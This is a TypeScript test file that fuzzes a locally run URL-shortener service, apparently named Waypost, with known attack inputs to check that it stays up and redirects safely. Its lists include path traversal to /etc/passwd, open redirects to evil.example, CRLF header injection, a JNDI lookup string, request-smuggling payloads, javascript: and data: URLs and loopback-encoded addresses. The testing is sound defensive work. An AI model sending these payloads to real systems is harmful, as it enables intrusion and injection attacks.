import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { propertyRuns } from "./contract/property-runs.ts";
import { type RawAnswer, type RawOptions, sendRaw } from "./harness/raw-http.ts";
import { newDataFolder, Product, removeDataFolder } from "./product.ts";

const destination = "https://example.com/goal?a=1";
const dataFolder = newDataFolder();
let product: Product;
/** Visitors who were sent on: what the ledger must have in the end. */
let redirected = 0;
/** Requests that the wait for an answer was over before; some of them may have been complete. */
let unanswered = 0;
/** Senders who never finish; they begin before everything else and are looked at after it. */
let slow: Promise<RawAnswer[]>;

beforeAll(async () => {
  product = await Product.start(dataFolder, { WAYPOST_LOG_LEVEL: "info" });
  await api("POST", "/api/v1/links", { url: destination, alias: "spring" });
  const unfinished = ["GET /spr", "GET /spring HTTP/1.1\r\nHost: a\r\nX-A: b", `${postHead(100)}{"url":`];
  slow = Promise.all(unfinished.map((text) => sendRaw(product.port, text, { patienceMs: 25_000 })));
}, 120_000);

afterAll(async () => {
  await product?.stop("SIGINT");
  removeDataFolder(dataFolder);
});

async function api(method: string, path: string, body?: object): Promise<Response> {
  return fetch(new URL(path, product.url), {
    method,
    headers: { authorization: `Bearer ${product.apiKey}`, "content-type": "application/json" },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
}

function postHead(length: number | string, more = ""): string {
  return `POST /api/v1/links HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${product.apiKey}\r\nContent-Type: application/json\r\n${more}Content-Length: ${length}\r\nConnection: close\r\n\r\n`;
}

function getText(target: string, headers = ""): string {
  return `GET ${target} HTTP/1.1\r\nHost: 127.0.0.1:${product.port}\r\n${headers}Connection: close\r\n\r\n`;
}

/** Sends, and holds the answer to what is true of every answer: no fault of ours, no way out, nothing smuggled. */
async function ask(text: string, options: RawOptions = {}): Promise<RawAnswer> {
  const answer = await sendRaw(product.port, text, options);
  if (answer.text === "" && !answer.ended) unanswered += 1;
  redirected += answer.text.match(/HTTP\/1\.1 302 /g)?.length ?? 0;
  const told = JSON.stringify({ sent: text.slice(0, 300), got: answer.text.slice(0, 600) });
  expect(answer.status, told).toBeLessThan(500);
  expect(answer.headers, told).not.toHaveProperty("x-smuggled");
  expect(answer.headers, told).not.toHaveProperty("set-cookie");
  if (answer.status === 302) {
    expect(answer.headers.location, told).toBe(destination);
  } else if (answer.headers.location !== undefined) {
    expect(answer.headers.location, told).toBe("/docs/");
  }
  if (answer.status >= 400 && answer.body !== "") {
    expect(answer.headers["content-type"], told).toMatch(/^application\/problem\+json/);
    expect(JSON.parse(answer.body), told).toMatchObject({ status: answer.status });
  }
  return answer;
}

const targets = [
  "/..%2f..%2fetc%2fpasswd",
  "/../../../etc/passwd",
  "/.%2e/.%2e/etc/passwd",
  "/docs/..%2f..%2fpackage.json",
  "/docs/js/../../../../package.json",
  "//evil.example",
  "//evil.example/docs",
  "///evil.example/%2e%2e",
  "/\\evil.example",
  "/docs\\evil.example",
  "/docs//evil.example",
  "/%5cevil.example",
  "http://evil.example/",
  "http://evil.example/spring",
  "https://evil.example/spring",
  "http:///spring",
  "javascript:alert(1)",
  "evil.example:443",
  "*",
  "?",
  "spring",
  "/%00",
  "/spring%00",
  "/%",
  "/%f",
  "/%ff%fe",
  "/%ED%A0%80",
  "/spring%0d%0aX-Smuggled:%201",
  "/spring?x=%0d%0aX-Smuggled:%201",
  "/spring?utm_source=%00&utm_source=%ff&utm_source=",
  "/spring#fragment",
  "/spring/",
  "/spring//",
  "/spring;jsessionid=1",
  "/spring%2f",
  "/spring%20",
  "/SPRING",
  "/spr\xc3\xaeng",
  "/\xff\xfe",
  "/spring\x1b[31m",
  "/spr ing",
  "/spring\tHTTP/1.1",
  "/__proto__",
  "/constructor",
  "/api/v1/links/__proto__",
  "/api/v1/links/%2e%2e/keys",
  "/api//v1/links",
  `/${"a".repeat(9_000)}`,
  `/${"%61".repeat(2_700)}`,
  `/spring?${"a=b&".repeat(2_000)}`,
  `/${"a/".repeat(4_000)}`,
  `/${"a".repeat(40_000)}`,
];

describe("no path makes a fault of ours, or leads anywhere but to the link's destination", () => {
  test("those that are known to have worked elsewhere", async () => {
    for (const target of targets) expect((await ask(getText(target))).ended, target).toBe(true);
  });

  test("any others", async () => {
    const piece = fc.oneof(
      fc.constantFrom(
        "/",
        "//",
        "\\",
        "..",
        ".",
        "%2f",
        "%2e",
        "%5c",
        "%00",
        "%",
        "?",
        "#",
        ":",
        "@",
        "spring",
      ),
      fc.constantFrom(
        "api",
        "v1",
        "links",
        "docs",
        "evil.example",
        "http:",
        "%0d%0a",
        "%ff",
        "\x80",
        "~",
        ";",
      ),
      fc.string({
        unit: fc.integer({ min: 33, max: 255 }).map((it) => String.fromCharCode(it)),
        maxLength: 8,
      }),
    );
    const target = fc.array(piece, { minLength: 1, maxLength: 12 }).map((pieces) => `/${pieces.join("")}`);
    const property = fc.asyncProperty(target, async (it) => {
      await ask(getText(it));
    });
    await fc.assert(property, propertyRuns(400));
  });

  test("other methods than those there are", async () => {
    for (const method of ["OPTIONS", "TRACE", "CONNECT", "PROPFIND", "BREW", "get", "GET\x00", "QUERY"]) {
      for (const target of ["/spring", "*", "evil.example:443", "/api/v1/links"]) {
        const text = getText(target).replace("GET", method);
        expect((await ask(text)).ended, text).toBe(true);
      }
    }
  });
});

describe("no header makes a fault of ours, or is taken for an answer's", () => {
  const headers = [
    "User-Agent: \xff\xfe\x80 caf\xc3\xa9\r\n",
    `User-Agent: ${"a".repeat(20_000)}\r\n`,
    `User-Agent: ${"a".repeat(40_000)}\r\n`,
    "User-Agent: a\x00b\r\n",
    "User-Agent: a\rX-Smuggled: 1\r\n",
    "User-Agent: a\nX-Smuggled: 1\r\n",
    "User-Agent: \x1b[2J\r\n",
    `User-Agent: \${jndi:ldap://evil.example/a}\r\n`,
    "Referer: javascript:alert(1)\r\n",
    "Referer: http://[::1\r\n",
    `Referer: http://${"a.".repeat(4_000)}example/\r\n`,
    "Referer: https://user:secret@example.com/\r\n",
    "Host: evil.example\r\n",
    "Host: a\r\nHost: b\r\n",
    "X-Forwarded-For: 1.2.3.4, \xff, ::, 999.1.1.1\r\n",
    "X-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: javascript\r\nForwarded: host=evil.example\r\n",
    "X-Request-Id: a b\r\n",
    `Accept: ${"text/html;q=0.1,".repeat(1_500)}\r\n`,
    "Accept: text/html;q=NaN, */*;q=1e400\r\n",
    "Accept-Encoding: \xff\r\n",
    "Range: bytes=0-,-1,a\r\n",
    "Expect: 100-continue\r\n",
    "Expect: everything\r\n",
    "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAAA\r\n",
    "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: a\r\n",
    "Connection: keep-alive, close, host\r\n",
    "Cookie: __proto__=1; constructor=2\r\n",
    "__proto__: 1\r\nconstructor: 2\r\n",
    ": no name\r\n",
    "No-Colon\r\n",
    "Space : 1\r\n",
    " Folded: 1\r\n\tmore\r\n",
    "traceparent: 00-00000000000000000000000000000000-0000000000000000-ff\r\n",
    "Sec-Purpose: prefetch;prerender\r\nPurpose: \xff\r\n",
    `${"X-A: b\r\n".repeat(3_000)}`,
    "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n",
    "Transfer-Encoding: gzip, chunked\r\n",
    "Transfer-Encoding: \x0bchunked\r\n",
    "Content-Length: -1\r\n",
    "Content-Length: 1e3\r\n",
    "Content-Length: 1\r\nContent-Length: 2\r\n",
  ];

  test("those that are known to have worked elsewhere", async () => {
    for (const header of headers) {
      await ask(getText("/spring", header), { patienceMs: 700 });
      await ask(getText("/api/v1/links", `Authorization: Bearer ${product.apiKey}\r\n${header}`), {
        patienceMs: 700,
      });
    }
  });

  test("any others", async () => {
    const name = fc.constantFrom(
      "User-Agent",
      "Referer",
      "Accept",
      "X-Forwarded-For",
      "Authorization",
      "If-Match",
    );
    const value = fc.string({
      unit: fc.integer({ min: 0, max: 255 }).map((it) => String.fromCharCode(it)),
      maxLength: 60,
    });
    const property = fc.asyncProperty(name, value, async (header, text) => {
      await ask(getText("/spring", `${header}: ${text}\r\n`), { patienceMs: 700 });
    });
    await fc.assert(property, propertyRuns(300));
  });

  test("requests that hide another one behind them", async () => {
    const smuggled = "GET /docs HTTP/1.1\r\nHost: a\r\nX: y";
    const texts = [
      `GET /spring HTTP/1.1\r\nHost: a\r\nContent-Length: ${smuggled.length}\r\nConnection: close\r\n\r\n${smuggled}`,
      `POST /spring HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n${smuggled}`,
      `POST /spring HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
    ];
    for (const text of texts) {
      const { text: got } = await ask(text, { patienceMs: 700 });
      expect(got.match(/HTTP\/1\.1 \d/g)?.length ?? 0, got).toBeLessThanOrEqual(1);
    }
  });
});

describe("no body makes a fault of ours, or is read for ever", () => {
  const chunk = Buffer.from(`10000\r\n${"a".repeat(65_536)}\r\n`);
  const chunked = () => postHead("").replace("Content-Length: \r\n", "Transfer-Encoding: chunked\r\n");

  test("one that never ends is cut at the limit, counted while it arrives", async () => {
    const answer = await ask(chunked(), { endless: chunk, patienceMs: 10_000 });
    expect(answer.status).toBe(413);
    expect(answer.ended).toBe(true);
    // The limit, and what the buffers on the way hold.
    expect(answer.sent).toBeLessThan(16 * 1_048_576);
  });

  test("one that says that it is too long is refused before it comes", async () => {
    expect((await ask(postHead(1e12))).status).toBe(413);
  });

  test("those that are other than they say", async () => {
    const bodies = [
      `${postHead(5)}{"url":"https://example.com"}`,
      `${postHead(0)}{"url":"https://example.com"}`,
      `${chunked()}zz\r\n{}\r\n0\r\n\r\n`,
      `${chunked()}2;${"a".repeat(50_000)}\r\n{}\r\n0\r\n\r\n`,
      `${chunked()}ffffffffffffffffff\r\n{}`,
      `${chunked()}-1\r\n{}\r\n0\r\n\r\n`,
      `${chunked()}2\r\n{}XX0\r\n\r\n`,
      `${chunked()}2\r\n{}\r\n0\r\nX-Smuggled: 1\r\n\r\n`,
      `${postHead(4, "Content-Encoding: gzip\r\n")}\x1f\x8b\x08\x00`,
      `${postHead(4)}\x00\x01\x02\xff`,
    ];
    for (const body of bodies) {
      const { status } = await ask(body, { patienceMs: 700 });
      expect([0, 400, 413, 415], body.slice(-100)).toContain(status);
    }
  });

  test("one whose sender leaves half way", async () => {
    await ask(`${postHead(1_000)}{"url"`, { patienceMs: 50 });
  });
});

describe("no destination is anything but a page elsewhere", () => {
  const refused = () => [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "\u0001javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "blob:https://example.com/1",
    "about:blank",
    "ftp://example.com/",
    "//evil.example",
    "/docs",
    "evil.example",
    "https://user:secret@example.com/",
    "https://@example.com/",
    "https://example.com\\@evil.example",
    "https:\\\\evil.example",
    "https://exa\tmple.com/",
    "https://example.com/\r\nX-Smuggled: 1",
    "https://",
    "http://%00/",
    "http://[::1",
    "http://999.1.1.1/",
    `http://127.0.0.1:${product.port}/spring`,
    `http://2130706433:${product.port}/`,
    `http://0x7f.1:${product.port}/`,
    `http://127.1:${product.port}/`,
    `http://127.0.0.1.:${product.port}/`,
    `HTTP://127.0.0.1:${product.port}/a/../spring`,
  ];

  test("those that are known to have worked elsewhere are refused", async () => {
    for (const url of refused()) {
      const response = await api("POST", "/api/v1/links", { url });
      expect([400, 422], `${url}: ${await response.text()}`).toContain(response.status);
    }
  });

  test("hosts of the visitor's own network are the visitor's business", async () => {
    for (const url of ["http://10.0.0.1/", "http://intranet/", "http://169.254.169.254/latest"]) {
      expect((await api("POST", "/api/v1/links", { url })).status, url).toBe(201);
    }
  });

  test("whatever is taken leads to http or https, in printable ASCII", async () => {
    const piece = fc.oneof(
      fc.constantFrom(
        "http:",
        "https:",
        "javascript:",
        "//",
        "\\",
        "/",
        "@",
        "#",
        "?",
        ":",
        "[::1]",
        "%0d%0a",
        " ",
      ),
      fc.constantFrom(
        "example.com",
        "127.0.0.1",
        "bücher.example",
        "\u3002",
        "\u200b",
        "\u202e",
        "xn--",
        ".",
        "..",
      ),
      fc.string({ unit: "binary", maxLength: 6 }).filter((it) => !it.includes("\0")),
    );
    const url = fc.tuple(
      fc.constantFrom("http://", "https://", ""),
      fc.array(piece, { minLength: 1, maxLength: 8 }),
    );
    const property = fc.asyncProperty(url, async ([start, pieces]) => {
      const response = await api("POST", "/api/v1/links", { url: start + pieces.join("") });
      expect([201, 400, 422], await response.clone().text()).toContain(response.status);
      if (response.status !== 201) return;
      const { code } = (await response.json()) as { code: string };
      const visit = await fetch(new URL(code, product.url), { redirect: "manual" });
      expect(visit.status).toBe(302);
      redirected += 1;
      const location = visit.headers.get("location") ?? "";
      expect(location).toMatch(/^https?:\/\/[!-~]+$/);
      expect(location).not.toContain("\\");
      expect(new URL(location).username).toBe("");
      expect(new URL(location).host).not.toBe(`127.0.0.1:${product.port}`);
    });
    await fc.assert(property, propertyRuns(300));
  });
});

describe("after all of that", () => {
  test("senders who never finished were told so and let go", { timeout: 40_000 }, async () => {
    for (const { ended, status, text } of await slow) {
      expect(ended, text).toBe(true);
      expect([0, 400, 408], text).toContain(status);
    }
  });

  test("it still answers, and nothing was a fault of its own", async () => {
    expect(product.child.exitCode).toBeNull();
    expect((await fetch(`${product.url}/readyz`)).status).toBe(200);
    expect((await ask(getText("/spring"))).status).toBe(302);
    const faults = product.logLines.filter((line) => Number(JSON.parse(line).level) >= 50);
    expect(faults).toEqual([]);
  });

  test("every line of the log is one line of JSON that a terminal can show, without the key", () => {
    const lines = product.logLines;
    expect(lines.length).toBeGreaterThan(100);
    for (const line of lines) {
      expect(JSON.parse(line)).toHaveProperty("level");
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there.
      expect(line).not.toMatch(/[\x00-\x1f\x7f]/);
      expect(line).not.toContain(product.apiKey);
    }
  });

  test("the ledger balances, with every visitor who was sent on", async () => {
    await vi.waitFor(
      async () => {
        const answer = await api("GET", "/api/v1/ledger");
        const ledger = (await answer.json()) as Record<"accepted" | "stored" | "duplicate", number>;
        expect(ledger).toMatchObject({
          balanced: true,
          inFlight: 0,
          lost: 0,
          unrecorded: 0,
          deadLettered: 0,
        });
        expect(ledger.accepted).toBeGreaterThanOrEqual(redirected);
        expect(ledger.accepted).toBeLessThanOrEqual(redirected + unanswered);
        expect(ledger.stored + ledger.duplicate).toBe(ledger.accepted);
      },
      { timeout: 10_000, interval: 100 },
    );
  });
});
